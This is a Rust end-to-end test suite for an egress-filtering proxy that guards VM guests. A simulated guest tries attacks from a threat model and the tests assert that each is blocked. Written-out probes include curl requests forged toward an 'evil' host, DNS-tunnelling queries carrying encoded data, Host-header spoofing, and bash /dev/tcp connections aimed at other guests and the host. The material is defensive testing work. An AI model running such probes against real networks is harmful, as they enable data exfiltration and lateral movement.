//! The whole system with a guest that attacks: what `threats.md` names, tried from inside. The namespace driver stands
//! in for a VM, because what is under test is everything outside of it.
#![expect(clippy::unwrap_used, reason = "a test's helper fails by panicking")]

use serde_json::{Value, json};
use tapgate_e2e::{
    World,
    daemon::{Daemon, Driver, Settings},
    demo::{Stage, audit},
    net, sh, sites,
    world::GIT_TOKEN,
};

const REAL: &str = "sk-live-77d1e0c6b2f94a5c";

fn with_guest(test: impl FnOnce(&mut Stage<'_>)) {
    with_guest_of("", &[], |_| {}, test);
}

/// With more lines in the daemon's file and settings beside it, in a world that is prepared for them.
fn with_guest_of(
    lines: &str,
    environment: &[(&str, &str)],
    prepare: impl FnOnce(&World),
    test: impl FnOnce(&mut Stage<'_>),
) {
    let world = World::new().unwrap();
    let settings = Settings::of(Driver::Netns).unwrap();
    prepare(&world);
    let daemon = Daemon::start_with(&world, settings, lines, environment).unwrap();
    let mut stage = Stage::new(&world, daemon).unwrap();
    stage.boot("box").unwrap();
    test(&mut stage);
    stage.clear().unwrap();
}

/// What curl in the guest ended with and printed; the world's authority is trusted, nothing else.
fn curl(stage: &Stage<'_>, arguments: &str) -> (i32, String) {
    let done =
        stage.sh(&format!("curl -sS --max-time 20 --cacert {} {arguments}", stage.world_ca())).unwrap();
    (done.code, format!("{}{}", done.out, done.err))
}

/// The same through an opened connection, whose certificate is the VM's own authority's.
fn curl_opened(stage: &Stage<'_>, arguments: &str) -> (i32, String) {
    let done = stage.sh(&format!("curl -sS --max-time 20 {arguments}")).unwrap();
    (done.code, format!("{}{}", done.out, done.err))
}

fn greeting(site: sites::Site) -> String {
    format!("hello from {}\n", site.name)
}

fn reasons(stage: &Stage<'_>) -> Vec<String> {
    let events = stage.api().audit(stage.vm().unwrap(), "").unwrap();
    events.iter().filter_map(|event| event["reason"].as_str().map(str::to_owned)).collect()
}

#[test]
fn the_name_decides_and_never_the_address() {
    with_guest(|stage| {
        stage.api().rule("host", sites::API.name).unwrap();
        let (api, evil) = (sites::API, sites::EVIL);
        let before = stage.world().counters().unwrap();
        for port in [80, 443] {
            let scheme = if port == 80 { "http" } else { "https" };
            let forged = format!("--resolve {}:{port}:{} {scheme}://{}/", api.name, evil.v4, api.name);
            assert_eq!(curl(stage, &forged), (0, greeting(api)));
        }
        // The other way round: an allowed site's address under a name that nobody allowed.
        let (code, text) =
            curl(stage, &format!("--resolve {}:443:{} https://{}/", evil.name, api.v4, evil.name));
        assert!(code != 0 && code != 28, "{code} {text}");
        let arrived = stage.world().counters().unwrap().since(&before);
        assert_eq!(arrived.of(evil), 0, "the attacker's host was reached: {arrived:?}");
    });
}

#[test]
fn a_name_never_leads_inside() {
    with_guest(|stage| {
        stage.api().rule("host", "*").unwrap();
        for (name, _) in sites::INWARD {
            for (scheme, port) in [("http", 80), ("https", 443)] {
                let target = format!("--resolve {name}:{port}:{} {scheme}://{name}/", sites::API.v4);
                let (code, text) = curl(stage, &format!("-f {target}"));
                assert!(code != 0 && code != 28, "{scheme}://{name}: {code} {text}");
            }
        }
        // The first look is harmless, every later one leads inside: whoever dials what was looked up again is caught.
        for _ in 0..4 {
            let (_, text) =
                curl(stage, &format!("--resolve {0}:80:{1} http://{0}/", sites::REBIND, sites::API.v4));
            assert!(!text.contains("hello from") || text == greeting(sites::ECHO), "{text}");
        }
        assert!(reasons(stage).iter().any(|reason| reason == "rebinding"), "{:?}", reasons(stage));
    });
}

/// A secret that does not open keeps the whole policy from being read: the guest has nothing, and everything again when it opens,
/// though nobody changes anything by the API.
#[test]
fn a_policy_that_cannot_be_read_closes_the_gate_until_it_can_be() {
    with_guest(|stage| {
        let request = format!("https://{}/", sites::API.name);
        stage.api().rule("host", sites::API.name).unwrap();
        let secret = json!({ "name": "s", "secret": REAL, "env_var": "S", "hosts": [sites::OTHER.name] });
        stage.api().post("/v1/secrets", &secret).unwrap().expect(201).unwrap();
        assert_eq!(curl(stage, &request), (0, greeting(sites::API)));
        let database = stage.daemon().data_dir().join("tapgate.db");
        let change = |sql: &str| {
            let script =
                "import sqlite3, sys; db = sqlite3.connect(sys.argv[1]); db.executescript(sys.argv[2])";
            sh::run("python3", ["-c", script, database.to_str().unwrap(), sql]).unwrap();
        };
        change(
            "CREATE TABLE aside AS SELECT id, value FROM secrets; UPDATE secrets SET value = zeroblob(64)",
        );
        stage.api().rule("host", sites::ECHO.name).unwrap();
        for site in [sites::API, sites::ECHO] {
            let (code, text) = curl(stage, &format!("https://{}/", site.name));
            assert!(code != 0, "{text}");
        }
        change(
            "UPDATE secrets SET value = (SELECT value FROM aside WHERE aside.id = secrets.id); DROP TABLE aside",
        );
        // Tried again after a second at first, then half a minute at most.
        let open = (0..60).any(|_| {
            std::thread::sleep(std::time::Duration::from_secs(1));
            curl(stage, &request) == (0, greeting(sites::API))
        });
        assert!(open, "it stays closed: {}", stage.daemon().log());
        assert_eq!(curl(stage, &format!("https://{}/", sites::ECHO.name)), (0, greeting(sites::ECHO)));
    });
}

#[test]
fn the_last_rule_gone_closes_everything() {
    with_guest(|stage| {
        let rule = stage.api().rule("host", sites::API.name).unwrap();
        let request = format!("https://{}/", sites::API.name);
        assert_eq!(curl(stage, &request), (0, greeting(sites::API)));
        stage.api().remove_rule(&rule).unwrap();
        let before = stage.world().counters().unwrap();
        let forged = format!("--resolve {0}:443:{1} https://{0}/", sites::API.name, sites::API.v4);
        for request in [&request, &forged] {
            let (code, text) = curl(stage, request);
            assert!(code != 0 && code != 28, "{code} {text}");
        }
        let arrived = stage.world().counters().unwrap().since(&before);
        assert_eq!(arrived.of(sites::API), 0, "{arrived:?}");
    });
}

#[test]
fn a_secret_goes_only_where_it_is_for() {
    with_guest(|stage| {
        let (echo, untrusted) = (sites::ECHO.name, sites::UNTRUSTED.name);
        stage.api().mode("warn").unwrap();
        stage.api().rule("host", echo).unwrap();
        stage.api().rule("host", untrusted).unwrap();
        let placeholder =
            stage.api().secret("key", "KEY", REAL, &[echo, untrusted, sites::OTHER.name]).unwrap();
        stage.api().secret("key-two", "KEY_TWO", GIT_TOKEN, &[echo]).unwrap();
        let header = format!("-H 'X-Key: {placeholder}'");

        // Allowed, and its certificate verifies: it is put in. A longer name beside it is a name of its own.
        let (code, text) =
            curl_opened(stage, &format!("{header} -H 'X-Two: {placeholder}-two' https://{echo}/echo"));
        assert_eq!(code, 0, "{text}");
        assert!(!text.contains(REAL) && !text.contains(GIT_TOKEN), "handed back: {text}");
        let seen = stage.world().journal().http(echo).unwrap();
        let headers = seen[0]["headers"].to_string();
        assert!(headers.contains(REAL) && headers.contains(GIT_TOKEN), "{headers}");

        // A certificate that does not verify: nothing is sent, and the guest is told.
        let (code, text) = curl_opened(stage, &format!("-w ' %{{http_code}}' {header} https://{untrusted}/"));
        assert!(code != 0 || text.ends_with(" 502"), "{code} {text}");
        // Only tolerated by mode `warn`: what goes out holds the placeholder.
        curl_opened(stage, &format!("-k {header} https://{}/", sites::OTHER.name));
        let journal = stage.world().journal();
        assert!(journal.http(untrusted).unwrap().is_empty());
        for entry in journal.mentioning(REAL).unwrap() {
            assert_eq!(entry["site"], echo, "{entry}");
        }
        let other = journal.http(sites::OTHER.name).unwrap();
        assert!(other.iter().any(|entry| entry["headers"].to_string().contains(&placeholder)), "{other:?}");
    });
}

#[test]
fn a_secret_goes_out_in_clear_text_as_the_daemons_key_says() {
    for (key, named, any) in [("explicit", true, false), ("never", false, false), ("always", true, true)] {
        with_guest_of(
            &format!("secrets_over_http = \"{key}\""),
            &[],
            |_| {},
            |stage| {
                let echo = sites::ECHO.name;
                stage.api().rule("host", echo).unwrap();
                let first = stage.api().secret("named", "NAMED", REAL, &[echo]).unwrap();
                let second = stage.api().secret("any", "ANY", GIT_TOKEN, &["*"]).unwrap();
                let headers = format!("-H 'X-One: {first}' -H 'X-Two: {second}'");
                let (code, text) = curl(stage, &format!("{headers} http://{echo}/echo"));
                assert_eq!(code, 0, "{key}: {text}");
                assert!(!text.contains(REAL) && !text.contains(GIT_TOKEN), "{key}: handed back: {text}");
                let seen = stage.world().journal().http(echo).unwrap();
                let seen = seen[0]["headers"].to_string();
                assert_eq!((seen.contains(REAL), seen.contains(GIT_TOKEN)), (named, any), "{key}: {seen}");
                let events = audit::wait_for(stage, "", |event| event["path"] == "/echo").unwrap();
                let event = &events[0];
                let withheld = |name| event["secrets_withheld"].as_array().unwrap().contains(&json!(name));
                assert_eq!((withheld("named"), withheld("any")), (!named, !any), "{key}: {event}");
            },
        );
    }
}

#[test]
fn one_name_all_the_way() {
    with_guest(|stage| {
        let (echo, api) = (sites::ECHO.name, sites::API.name);
        stage.api().rule("host", echo).unwrap();
        let placeholder = stage.api().secret("key", "KEY", REAL, &[echo]).unwrap();
        let before = stage.world().counters().unwrap();
        for other in [api, sites::EVIL.name] {
            let request =
                format!("-w ' %{{http_code}}' -H 'Host: {other}' -H 'X-Key: {placeholder}' https://{echo}/");
            let (code, text) = curl_opened(stage, &format!("--http1.1 {request}"));
            assert!(code == 0 && text.ends_with(" 421"), "{code} {text}");
        }
        let arrived = stage.world().counters().unwrap().since(&before);
        assert_eq!((arrived.of(sites::API), arrived.of(sites::EVIL)), (0, 0), "{arrived:?}");
        assert!(stage.world().journal().mentioning(REAL).unwrap().is_empty());
        assert!(reasons(stage).iter().any(|reason| reason == "name_mismatch"), "{:?}", reasons(stage));
    });
}

#[test]
fn dns_carries_nothing_out() {
    with_guest(|stage| {
        stage.api().rule("host", sites::API.name).unwrap();
        let before = stage.world().counters().unwrap();
        for server in ["", &format!("@{}", sites::DNS.v4), &format!("@{}", sites::EVIL.v4)] {
            for kind in ["TXT", "A", "NULL", "HTTPS"] {
                for transport in ["+notcp", "+tcp"] {
                    let name = "c2VjcmV0.tunnel.example.net";
                    let words = format!("dig {server} +tries=1 +time=10 {transport} {name} {kind}");
                    let done = stage.sh(&words).unwrap();
                    assert!(done.out.contains("status: REFUSED"), "{words}: {}", done.out);
                }
            }
        }
        let arrived = stage.world().counters().unwrap().since(&before);
        assert_eq!(arrived.any(), 0, "{arrived:?}");
        let done = stage.sh(&format!("dig +short {} A", sites::API.name)).unwrap();
        assert_eq!(done.out.trim(), sites::API.v4.to_string());
    });
}

#[test]
fn accounts_see_nothing_of_each_other() {
    with_guest(|stage| {
        let vm = stage.vm().unwrap().to_owned();
        let rule = stage.api().rule("host", sites::API.name).unwrap();
        let eve = stage.daemon().client().sign_up("eve").unwrap();
        let paths = [
            ("GET", format!("/v1/vms/{vm}")),
            ("DELETE", format!("/v1/vms/{vm}")),
            ("POST", format!("/v1/vms/{vm}/stop")),
            ("GET", format!("/v1/vms/{vm}/ssh")),
            ("DELETE", format!("/v1/egress/rules/{rule}")),
        ];
        for (method, path) in paths {
            let body = (method == "POST").then(|| json!({}));
            let reply = eve.call(method, &path, body.as_ref()).unwrap();
            assert_eq!(reply.status, 404, "{method} {path}: {reply:?}");
        }
        assert_eq!(eve.get("/v1/vms").unwrap().body["data"], Value::Array(Vec::new()));
        assert_eq!(stage.daemon().client().get("/v1/vms").unwrap().status, 401);
        assert_eq!(curl(stage, &format!("https://{}/", sites::API.name)), (0, greeting(sites::API)));
    });
}

#[test]
fn guests_reach_neither_each_other_nor_the_host() {
    with_guest(|stage| {
        stage.api().rule("cidr", "0.0.0.0/0").unwrap();
        stage.api().rule("host", "*").unwrap();
        let own = stage.sh("ip -4 -o address show scope global").unwrap().out;
        // What is tried below works from here where it may.
        let works = format!(
            "timeout 20 bash -c 'exec 3<>/dev/tcp/{}/7; printf pass >&3; head -c 4 <&3'",
            sites::FILES.v4
        );
        assert_eq!(stage.sh(&works).unwrap().out, "pass");
        let first = stage.vm().unwrap().to_owned();
        stage.boot("other").unwrap();
        let theirs = own.split_whitespace().skip_while(|word| *word != "inet").nth(1).unwrap();
        let theirs = theirs.split('/').next().unwrap();
        for (address, port) in
            [(theirs, 22), ("192.0.2.10", 7070), ("127.0.0.1", 7070), ("169.254.77.1", 7710)]
        {
            let done = stage
                .sh(&format!(
                    "timeout 10 bash -c 'exec 3<>/dev/tcp/{address}/{port} && timeout 3 head -c 4 <&3'"
                ))
                .unwrap();
            assert!(done.out.is_empty(), "{address}:{port} answered: {done:?}");
        }
        let done = stage.sh(&format!("ping -c 1 -W 2 {theirs}")).unwrap();
        assert!(!done.ok(), "{done:?}");
        stage.clear().unwrap();
        stage.enter(first).unwrap();
    });
}

/// Behind a translation the host's public address is on none of its interfaces: no guest comes in by it, whatever a rule says.
#[test]
fn the_public_address_is_the_hosts_own() {
    const PUBLIC: &str = "198.51.100.99";
    let translate = |world: &World| {
        let (internet, host) = (world.names().internet(), world.names().host());
        sh::ip(&format!("-n {internet} route add {PUBLIC}/32 via {}", sites::HOST_V4)).unwrap();
        let table = format!(
            "table ip cloud {{ chain in {{ type nat hook prerouting priority dstnat; ip daddr {PUBLIC} dnat to {}; }}; }}",
            sites::HOST_V4
        );
        sh::expect(net::inside(&host, "nft").arg(table), b"").unwrap();
    };
    with_guest_of("", &[("TAPGATE_PUBLIC_HOST", PUBLIC)], translate, |stage| {
        stage.api().rule("cidr", "0.0.0.0/0").unwrap();
        let (code, said) = curl(stage, &format!("http://{PUBLIC}:2222/"));
        assert_ne!(code, 0, "{said}");
        assert_eq!(reasons(stage), ["host_address"]);
    });
}

#[test]
fn an_address_that_the_host_gets_later_is_closed_too() {
    const LATER: &str = "192.0.2.77";
    with_guest(|stage| {
        // A range rule for the host's own network, and a secret, so that port 80 goes by the proxy's dialer.
        stage.api().rule("cidr", "192.0.2.0/24").unwrap();
        stage.api().secret("key", "KEY", REAL, &["*"]).unwrap();
        let host = stage.world().names().host();
        sh::ip(&format!("-n {host} address add {LATER}/32 dev lo")).unwrap();
        let closed = || reasons(stage).iter().any(|reason| reason == "host_address");
        for _ in 0..100 {
            curl(stage, &format!("http://{LATER}/"));
            if closed() {
                return;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        panic!("{LATER} was never taken for the host's own: {:?}", reasons(stage));
    });
}

/// A VM that ends right after it has tried much keeps nothing of it to itself.
#[test]
fn what_a_vm_tried_last_is_on_record() {
    const TRIES: u64 = 900;
    with_guest(|stage| {
        let vm = stage.vm().unwrap().to_owned();
        let send = format!(
            "python3 -c \"import socket; s = socket.socket(2, 2)\nfor p in range({TRIES}): s.sendto(b'x', ('203.0.113.9', 20000 + p))\""
        );
        let done = stage.sh(&send).unwrap();
        assert!(done.ok(), "{done:?}");
        stage.clear().unwrap();
        let told = || -> u64 {
            let events = stage.api().audit(&vm, "&protocol=udp").unwrap();
            events.iter().map(|event| event["count"].as_u64().unwrap_or(1)).sum()
        };
        for _ in 0..50 {
            if told() == TRIES {
                break;
            }
            std::thread::sleep(std::time::Duration::from_millis(100));
        }
        assert_eq!(told(), TRIES);
    });
}
